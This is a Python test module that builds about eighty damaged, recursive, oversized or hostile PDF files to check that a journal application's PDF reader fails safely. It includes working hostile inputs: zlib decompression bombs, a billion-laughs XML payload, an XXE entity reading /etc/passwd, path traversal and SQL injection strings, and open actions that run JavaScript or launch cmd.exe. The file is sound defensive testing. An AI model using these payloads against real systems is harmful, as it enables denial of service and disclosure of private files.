"""Some eighty files that no coach sends: damaged, recursive, swollen, scripted or someone else's.

Each case makes its bytes when asked, and says what may come of reading them: a code, or READ for a
file that is read all the same.
"""

import hashlib
import io
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from ahpjournal.domain.errors import InputCode
from ahpjournal.pdf import manifest
from tests.pdf.forms_in_tests import KEY, write_small

READ = "read"
SWOLLEN = 200 << 20
"""Bytes that a bomb grows to."""


@dataclass(frozen=True, slots=True)
class Case:
    """A file and what may come of it."""

    name: str
    make: Callable[[], bytes]
    outcomes: frozenset[str]


_CASES: list[Case] = []
Make = Callable[[], bytes]


def case(*outcomes: str) -> Callable[[Make], Make]:
    """Name a case after its function."""

    def keep(make: Make) -> Make:
        name = make.__name__.removeprefix("_").replace("_", "-")
        _CASES.append(Case(name, make, frozenset(outcomes)))
        return make

    return keep


NOT_PDF, DAMAGED = InputCode.NOT_A_PDF.value, InputCode.PDF_DAMAGED.value
TOO_MUCH = InputCode.PDF_TOO_MUCH.value
LOCKED = InputCode.PDF_NEEDS_PASSWORD.value


@cache
def ours() -> bytes:
    """Give the small coach PDF as it left."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "coach.pdf"
        write_small(path)
        return path.read_bytes()


def changed(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    """Give ours with a change, saved again."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(ours())) as pdf:
        change(pdf)
        pdf.save(out, **options)
    return out.getvalue()


def written(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """Give a PDF of these objects, numbered from 1; the first is the root."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )
    return bytes(out)


def stream(data: bytes, more: bytes = b"") -> bytes:
    """Give a stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


@cache
def bomb(size: int = SWOLLEN) -> bytes:
    """Give a little that grows to *size* zeros."""
    packer = zlib.compressobj(9)
    piece = bytes(1 << 20)
    parts = [packer.compress(piece) for _ in range(size >> 20)]
    return b"".join([*parts, packer.flush()])


PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def form(fields: bytes, *more: bytes, page: bytes = PAGE) -> bytes:
    """Give a PDF of one page with these fields; *more* objects begin at number 4."""
    root = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields %s>>>>" % fields
    return written([root, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, *more])


def noise(size: int) -> bytes:
    """Give bytes that mean nothing, the same each time."""
    pieces = (hashlib.sha256(b"%d" % i).digest() for i in range(size // 32 + 1))
    return b"".join(pieces)[:size]


# --- no PDF, or not all of one -------------------------------------------------------------------


@case(NOT_PDF)
def _empty() -> bytes:
    return b""


@case(NOT_PDF)
def _plain_text() -> bytes:
    return "Dear Frances, thank you.".encode("utf-16")


@case(NOT_PDF)
def _zip() -> bytes:
    return b"PK\x03\x04" + bytes(2000)


@case(NOT_PDF)
def _web_page() -> bytes:
    return b"<!doctype html><script>alert(1)</script>" * 100


@case(NOT_PDF)
def _noise() -> bytes:
    return noise(50_000)


@case(NOT_PDF)
def _mark_far_down() -> bytes:
    return b"x" * 2000 + ours()


@case(READ, DAMAGED)
def _letters_before_the_mark() -> bytes:
    return b"From: a mail gateway\r\n\r\n" + ours()


@case(DAMAGED)
def _mark_only() -> bytes:
    return b"%PDF-1.7\n"


@case(DAMAGED)
def _mark_and_noise() -> bytes:
    return b"%PDF-1.7\n" + noise(100_000)


def _cut(share: float) -> bytes:
    return ours()[: int(len(ours()) * share)]


@case(DAMAGED, READ)
def _cut_at_a_tenth() -> bytes:
    return _cut(0.1)


@case(DAMAGED, READ)
def _cut_at_half() -> bytes:
    return _cut(0.5)


@case(DAMAGED, READ)
def _cut_near_its_end() -> bytes:
    return _cut(0.98)


@case(DAMAGED, READ)
def _last_bytes_lost() -> bytes:
    return ours()[:-12]


@case(DAMAGED, READ)
def _zeros_in_the_middle() -> bytes:
    data, middle = bytearray(ours()), len(ours()) // 2
    data[middle : middle + 4096] = bytes(4096)
    return bytes(data)


@case(DAMAGED, READ)
def _a_bit_flipped_in_each_thousand() -> bytes:
    data = bytearray(ours())
    for i in range(500, len(data), 1000):
        data[i] ^= 4
    return bytes(data)


@case(DAMAGED, READ)
def _line_ends_changed() -> bytes:
    return ours().replace(b"\n", b"\r\n")


@case(DAMAGED, READ)
def _sent_as_text() -> bytes:
    return ours().decode("utf-8", "replace").encode()


@case(DAMAGED, READ)
def _two_in_one() -> bytes:
    return ours() + ours()


@case(DAMAGED, READ)
def _wrong_start() -> bytes:
    data = form(b"[]")
    return data[: data.rindex(b"startxref")] + b"startxref\n999999999\n%%EOF"


@case(DAMAGED, READ)
def _trailer_that_follows_itself() -> bytes:
    data = form(b"[]")
    start = data[data.rindex(b"startxref") + 10 :].split()[0]
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev " + start, 1)


# --- what holds it together ----------------------------------------------------------------------


@case(DAMAGED, READ)
def _no_root() -> bytes:
    return form(b"[]").replace(b"/Root 1 0 R", b"/Ruut 1 0 R")


@case(DAMAGED, READ)
def _root_is_a_list() -> bytes:
    return written([b"[1 2 3]"])


@case(DAMAGED, READ)
def _no_pages() -> bytes:
    return written([b"<</Type/Catalog>>"])


@case(DAMAGED, READ)
def _pages_that_hold_themselves() -> bytes:
    return written([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


@case(DAMAGED, READ)
def _a_thousand_million_pages() -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R>>"
    return written([root, b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>", PAGE])


@case(TOO_MUCH)
def _six_thousand_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(3, 6003))
    pages = b"<</Type/Pages/Kids[%s]/Count 6000>>" % kids
    return written([b"<</Type/Catalog/Pages 2 0 R>>", pages, *[PAGE] * 6000])


@case(DAMAGED, READ, TOO_MUCH)
def _pages_ten_thousand_deep() -> bytes:
    kids = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(2, 10_002)]
    return written([b"<</Type/Catalog/Pages 2 0 R>>", *kids, PAGE])


@case(DAMAGED, READ, TOO_MUCH)
def _lists_in_lists() -> bytes:
    return form(b"[" * 100_000 + b"]" * 100_000)


@case(DAMAGED, READ, TOO_MUCH)
def _tables_in_tables() -> bytes:
    return form(b"[<</A" * 50_000 + b" 1" + b">>]" * 50_000)


# --- boxes ---------------------------------------------------------------------------------------


@case(READ)
def _boxes_that_hold_themselves() -> bytes:
    return form(b"[4 0 R]", b"<</T(fb_a_b_noticed)/Kids[4 0 R 5 0 R]>>", b"<</T(x)/Kids[4 0 R]>>")


@case(READ)
def _boxes_ten_thousand_deep() -> bytes:
    kids = [b"<</T(a)/Kids[%d 0 R]>>" % (n + 1) for n in range(4, 10_004)]
    return form(b"[4 0 R]", *kids, b"<</T(a)/FT/Tx/V(x)>>")


@case(READ, TOO_MUCH)
def _thirty_thousand_boxes() -> bytes:
    return form(b"[%s]" % b"".join(b"<</T(f%d)/FT/Tx/V(x)>>" % n for n in range(30_000)))


@case(READ)
def _the_list_of_boxes_is_a_text() -> bytes:
    return form(b"(none)")


@case(READ)
def _boxes_that_are_none() -> bytes:
    return form(b"[null 1 (x) /N [] << >> 99 0 R true <</T 7/FT/Tx/V 8>>]")


@case(READ)
def _values_of_every_kind() -> bytes:
    values = [b"null", b"true", b"7", b"-1.5", b"/Name", b"[(a) (b)]", b"<</A 1>>", b"99 0 R"]
    kinds = [b"/Tx", b"/Ch", b"/Btn", b"/Sig", b"(Tx)"]
    parts = [
        b"<</T(f%d_%d)/FT %s/V %s/Opt[1 [(a)] [(a)(b)(c)] (d)]>>" % (i, j, kind, value)
        for i, kind in enumerate(kinds)
        for j, value in enumerate(values)
    ]
    return form(b"[%s]" % b"".join(parts))


@case(READ)
def _a_name_of_a_million_letters() -> bytes:
    return form(b"[<</T(%s)/FT/Tx/V(x)>>]" % (b"a." * 500_000))


@case(READ)
def _a_value_of_four_million_letters() -> bytes:
    return form(b"[<</T(fb_a_b_noticed)/FT/Tx/V(%s)>>]" % (b"word " * 800_000))


@case(READ)
def _a_thousand_long_values() -> bytes:
    parts = [b"<</T(f%d)/FT/Tx/V(%s)>>" % (n, b"word " * 4000) for n in range(1000)]
    return form(b"[%s]" % b"".join(parts))


@case(READ)
def _halves_of_letters() -> bytes:
    return form(b"[<</T(f)/FT/Tx/V<FEFFD800DC00D800004100>>><</T<FEFFD8>/FT/Tx/V<FFFE00D8>>>]")


@case(READ)
def _text_that_turns_round() -> bytes:
    text = "\ufeff\u202egnp.exe\u202c \u0000\u0007\u200b\u2066abc".encode("utf-16-be").hex()
    return form(b"[<</T(fb_a_b_noticed)/FT/Tx/V<%s>>>]" % text.encode())


@case(READ)
def _bytes_in_no_encoding() -> bytes:
    return form(b"[<</T(f)/FT/Tx/V<EFBBBFC328A0A1E28228FF>>>]")


@case(READ)
def _two_boxes_of_one_name() -> bytes:
    return form(b"[<</T(f)/FT/Tx/V(one)>><</T(f)/FT/Tx/V(two)>>]")


@case(READ)
def _a_value_that_is_its_box() -> bytes:
    return form(b"[4 0 R]", b"<</T(f)/FT/Tx/V 4 0 R/Opt 4 0 R/Kids 4 0 R/P 4 0 R>>")


@case(READ)
def _ranges_of_signatures() -> bytes:
    return form(b"[<</T(s)/FT/Sig/V<</ByteRange[0 99999999999 -1 5]/Contents<00>>>>>]")


# --- marks on pages ------------------------------------------------------------------------------


def _page_with(annotations: bytes) -> bytes:
    return PAGE.replace(b">>", b"/Annots %s>>" % annotations)


@case(READ)
def _marks_that_are_the_page() -> bytes:
    return form(b"[]", page=_page_with(b"[3 0 R 3 0 R 2 0 R 1 0 R]"))


@case(READ)
def _marks_that_are_a_number() -> bytes:
    return form(b"[]", page=_page_with(b"12"))


@case(READ, TOO_MUCH)
def _thirty_thousand_notes() -> bytes:
    note = b"<</Subtype/Text/Contents(x)/Rect[1 1 2 2]>>"
    return form(b"[]", page=_page_with(b"[" + note * 30_000 + b"]"))


@case(READ)
def _notes_that_answer_each_other() -> bytes:
    one = b"<</Subtype/Text/Contents(a)/Rect[1 1 2 2]/IRT 5 0 R>>"
    other = b"<</Subtype/Text/Contents(b)/Rect[1 1 2 2]/IRT 4 0 R/Popup 4 0 R>>"
    return form(b"[]", one, other, page=_page_with(b"[4 0 R 5 0 R]"))


@case(READ)
def _highlights_at_the_end_of_the_world() -> bytes:
    points = b"1e308 -1e308 99999999999999999999 0 1 1 1 1"
    marks = b"<</Subtype/Highlight/Rect[0 0]/QuadPoints[%s]>>" % points
    odd = b"<</Subtype/Highlight/Rect(x)/QuadPoints[(a)/b null 1]/Contents 12/T 3/M[]>>"
    many = b"<</Subtype/Underline/QuadPoints[%s]>>" % (b"0 0 9 0 0 9 9 9 " * 100_000)
    return form(b"[]", page=_page_with(b"[%s%s%s]" % (marks, odd, many)))


# --- what grows ----------------------------------------------------------------------------------


def _swollen_box(data: bytes, more: bytes) -> bytes:
    return form(b"[<</T(fb_a_b_noticed)/FT/Tx/V 4 0 R>>]", stream(data, more))


@case(READ, DAMAGED, TOO_MUCH)
def _a_value_that_grows() -> bytes:
    return _swollen_box(bomb(), b"/Filter/FlateDecode")


@case(READ, DAMAGED, TOO_MUCH)
def _a_value_that_grows_twice() -> bytes:
    return _swollen_box(zlib.compress(bomb(), 9), b"/Filter[/FlateDecode/FlateDecode]")


@case(READ, DAMAGED, TOO_MUCH)
def _a_hundred_filters() -> bytes:
    return _swollen_box(b"x" * 100, b"/Filter[" + b"/ASCIIHexDecode" * 100 + b"]")


@case(READ, DAMAGED, TOO_MUCH)
def _runs_that_grow() -> bytes:
    return _swollen_box(b"\x81a" * (1 << 20) + b"\x80", b"/Filter/RunLengthDecode")


@case(READ, DAMAGED, TOO_MUCH)
def _a_predictor_of_a_thousand_million_columns() -> bytes:
    parameters = b"/DecodeParms<</Predictor 12/Columns 1000000000/Colors 30/BitsPerComponent 16>>"
    return _swollen_box(zlib.compress(b"x" * 1000), b"/Filter/FlateDecode" + parameters)


@case(READ, DAMAGED, TOO_MUCH)
def _a_page_that_grows() -> bytes:
    page = PAGE.replace(b">>", b"/Contents 4 0 R>>")
    return form(b"[]", stream(bomb(), b"/Filter/FlateDecode"), page=page)


@case(READ, DAMAGED, TOO_MUCH)
def _pages_that_all_grow() -> bytes:
    page = PAGE.replace(b">>", b"/Contents 4 0 R>>")
    kids = b" ".join([b"3 0 R"] + [b"%d 0 R" % n for n in range(5, 105)])
    root = b"<</Type/Catalog/Pages 2 0 R>>"
    pages = b"<</Type/Pages/Kids[%s]/Count 101>>" % kids
    packed = stream(bomb(10 << 20), b"/Filter/FlateDecode")
    return written([root, pages, page, packed, *[page] * 100])


@case(READ, DAMAGED, TOO_MUCH)
def _objects_that_grow() -> bytes:
    packed = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]
    objects.append(stream(bomb(), packed))
    return written(objects).replace(b"startxref", b"startxref ", 1)


@case(READ, DAMAGED, TOO_MUCH)
def _a_manifest_that_grows() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        file = pdf.make_stream(bomb(), Filter=Name.FlateDecode, Type=Name.EmbeddedFile)
        specification = Dictionary(
            Type=Name.Filespec, F=manifest.NAME, UF=manifest.NAME, EF=Dictionary(F=file)
        )
        names = Array([String(manifest.NAME), specification])
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=names))

    return changed(change, compress_streams=False)


@case(READ, DAMAGED, TOO_MUCH)
def _metadata_that_grow() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        data = pdf.make_stream(bomb(), Filter=Name.FlateDecode, Type=Name.Metadata)
        pdf.Root.Metadata = data

    return changed(change, compress_streams=False)


@case(TOO_MUCH)
def _a_file_beyond_all_measure() -> bytes:
    return b"%PDF-1.7\n" + bytes(101 << 20)


@case(READ, DAMAGED, TOO_MUCH)
def _ninety_million_bytes_of_nothing() -> bytes:
    return form(b"[]", stream(bytes(90 << 20)))


@case(READ, DAMAGED, TOO_MUCH)
def _a_hundred_thousand_objects() -> bytes:
    return form(b"[]", *[b"<<>>"] * 100_000)


# --- metadata and manifest -----------------------------------------------------------------------


def _metadata(text: str) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Metadata = pdf.make_stream(text.encode(), Type=Name.Metadata, Subtype=Name.XML)

    return changed(change)


@case(READ)
def _a_billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{"".join([f"&l{n - 1};"] * 10)}">' for n in range(1, 10))
    return _metadata(
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">&l9;</x:xmpmeta>'
    )


@case(READ)
def _metadata_that_ask_for_a_file() -> bytes:
    return _metadata(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
        'syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<dc:identifier>&f;</dc:identifier></rdf:Description></rdf:RDF></x:xmpmeta>"
    )


@case(READ)
def _metadata_of_noise() -> bytes:
    return _metadata("<x:xmpmeta \x01\x02 <<<<")


def with_manifest(data: bytes) -> bytes:
    """Give ours with other bytes attached under the name of the manifest."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments[manifest.NAME] = pikepdf.AttachedFileSpec(pdf, data, filename=manifest.NAME)

    return changed(change)


def given_manifest() -> dict[str, Any]:
    """Give the manifest of ours."""
    with pikepdf.open(io.BytesIO(ours())) as pdf:
        data = pdf.attachments[manifest.NAME].get_file().read_bytes()
    found: dict[str, Any] = json.loads(data)
    return found


@case(READ)
def _manifest_is_no_json() -> bytes:
    return with_manifest(b"\xff\xfe{not json")


@case(READ)
def _manifest_without_end() -> bytes:
    return with_manifest(b"[" * 200_000)


@case(READ)
def _manifest_is_a_list() -> bytes:
    return with_manifest(b"[1,2,3]")


@case(READ)
def _manifest_of_wrong_kinds() -> bytes:
    body = {**given_manifest(), "fields": {"a": 1}, "places": "x", "pages": 7, "export": ["a"]}
    return with_manifest(manifest.canonical(manifest.sealed(body, "ab12cd34", KEY)))


@case(READ)
def _manifest_of_odd_boxes() -> bytes:
    odd = [None, 1, {"name": 3}, {"name": "x", "rect": [1e999, "a"], "page": -1, "options": 5}]
    body = {**given_manifest(), "fields": odd, "places": [[1], ["a", "b", "c", "d"], None]}
    return with_manifest(json.dumps(body).encode())


@case(READ)
def _manifest_with_a_broken_seal() -> bytes:
    return with_manifest(json.dumps({**given_manifest(), "mac": "0" * 64}).encode())


@case(READ)
def _manifest_of_another_journal() -> bytes:
    return with_manifest(json.dumps({**given_manifest(), "journal": "0" * 36}).encode())


@case(READ)
def _manifest_with_wrong_ids() -> bytes:
    body = {**given_manifest(), "export": "../../etc/passwd", "journal": "'; DROP TABLE entry;--"}
    return with_manifest(json.dumps(body).encode())


# --- what runs -----------------------------------------------------------------------------------


def _opens_with(action: bytes) -> bytes:
    root = b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % action
    return written([root, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE])


@case(READ)
def _a_script_on_opening() -> bytes:
    return _opens_with(b"<</S/JavaScript/JS(app.alert(1))>>")


@case(READ)
def _another_program_on_opening() -> bytes:
    return _opens_with(b"<</S/Launch/F(cmd.exe)>>")


@case(READ)
def _sends_itself_away() -> bytes:
    return _opens_with(b"<</S/SubmitForm/F<</FS/URL/F(http://example.org)>>>>")


@case(READ)
def _scripts_in_boxes() -> bytes:
    script = b"<</S/JavaScript/JS(this.submitForm())>>"
    return form(b"[<</T(f)/FT/Tx/V(x)/AA<</K %s/F %s/V %s/C %s>>>>]" % ((script,) * 4))


@case(READ)
def _a_form_of_another_kind() -> bytes:
    fields = b"[]/XFA[(template)4 0 R]"
    return form(fields, stream(b"<template><script>x()</script></template>"))


@case(READ)
def _a_program_attached() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["reply.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(5000))

    return changed(change)


# --- someone else's, locked, or without boxes ----------------------------------------------------


@case(READ)
def _another_producers_form() -> bytes:
    parts = [b"<</T(Surname)/FT/Tx/V(Hale)>>", b"<</T(topmostSubform[0].Page1[0])/FT/Tx/V(x)>>"]
    return form(b"[%s]" % b"".join(parts))


@case(READ)
def _names_like_ours() -> bytes:
    parts = [
        b"<</T(fb_deadbeef_cafebabe_noticed)/FT/Tx/V(x)>>",
        b"<</T(fb__)/FT/Tx/V(y)>>",
        b"<</T(fb_../../x_y_z)/FT/Tx/V(z)>>",
    ]
    return form(b"[%s]" % b"".join(parts))


@case(READ)
def _without_boxes() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        del pdf.Root.AcroForm
        del pdf.Root.Names
        for page in pdf.pages:
            if "/Annots" in page.obj:
                del page.obj.Annots

    return changed(change)


@case(LOCKED)
def _locked() -> bytes:
    return changed(lambda _pdf: None, encryption=pikepdf.Encryption(user="x", owner="x", R=6))


@case(LOCKED, DAMAGED)
def _locked_the_old_way() -> bytes:
    encryption = pikepdf.Encryption(user="x", owner="x", R=3, aes=False, metadata=False)
    return changed(lambda _pdf: None, encryption=encryption)


@case(DAMAGED, LOCKED, READ)
def _locked_by_an_unknown_way() -> bytes:
    data = form(b"[]")
    return data.replace(b"/Root 1 0 R", b"/Encrypt<</Filter/Odd/V 99/R 99>>/Root 1 0 R")


CASES = tuple(_CASES)
